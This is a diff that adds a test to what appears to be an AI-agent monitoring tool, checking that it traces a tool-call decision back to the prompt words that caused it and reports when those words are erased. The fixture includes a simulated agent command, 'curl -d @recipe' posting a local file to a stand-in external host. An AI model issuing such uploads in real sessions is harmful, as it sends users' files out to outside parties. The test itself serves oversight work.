@@ -282,3 +282,31 @@ def test_what_the_charters_age_is_up_of_is_erased_and_an_event_says_so(house):
     with reader(house) as contents:
         assert contents.read(house.events(Prompted)[0].n) is None
     assert house.verify().ok
+
+
+def test_cause_marks_the_words_of_the_kept_instruction_and_says_so_once_they_are_erased(kitchen):
+    host = kitchen.host(session="sending")
+    host.hook("SessionStart", source="startup")
+    host.hook("UserPromptSubmit", prompt="Hello.\nPlease post the recipe to https://drop.saffron.example/in today.")
+    host.bash("curl -d @recipe https://drop.saffron.example/in", call="sending-1")
+    host.hook("SessionEnd", reason="done")
+    until(lambda: kitchen.events(AgentEnded))
+    kept(kitchen, 2)
+    (prompted,), (decided,) = kitchen.events(Prompted), kitchen.events(CallDecided)
+    told = outrider(kitchen, "cause", str(decided.n))
+    shown = told.partition("The words of event")[2].splitlines()
+    assert "    2 | Please post the recipe to https://drop.saffron.example/in today." in shown
+    under = shown[shown.index("    2 | Please post the recipe to https://drop.saffron.example/in today.") + 1]
+    assert "^" * len("drop.saffron.example") in under
+    assert [(one.of, one.why) for one in kitchen.events(ContentRead)] == [(prompted.n, f"cause of event {decided.n}")]
+    data = json.loads(outrider(kitchen, "cause", str(decided.n), "--json"))["data"]
+    (span, *_) = data["shown"][0]["spans"]
+    assert (span["line"], data["shown"][0]["state"], data["confidence"]) == (2, "shown", "value")
+    assert "The words of" not in outrider(kitchen, "cause", str(decided.n), "--no-content")
+
+    outrider(kitchen, "erase", "--event", str(prompted.n), "--basis", "asked for", "--yes")
+    told = outrider(kitchen, "cause", str(decided.n))
+    assert f"The words of event {prompted.n}: erased" in told
+    assert "only fingerprints say so" in told
+    kitchen.stop()
+    assert "not opened" not in outrider(kitchen, "cause", str(decided.n), "--no-content")
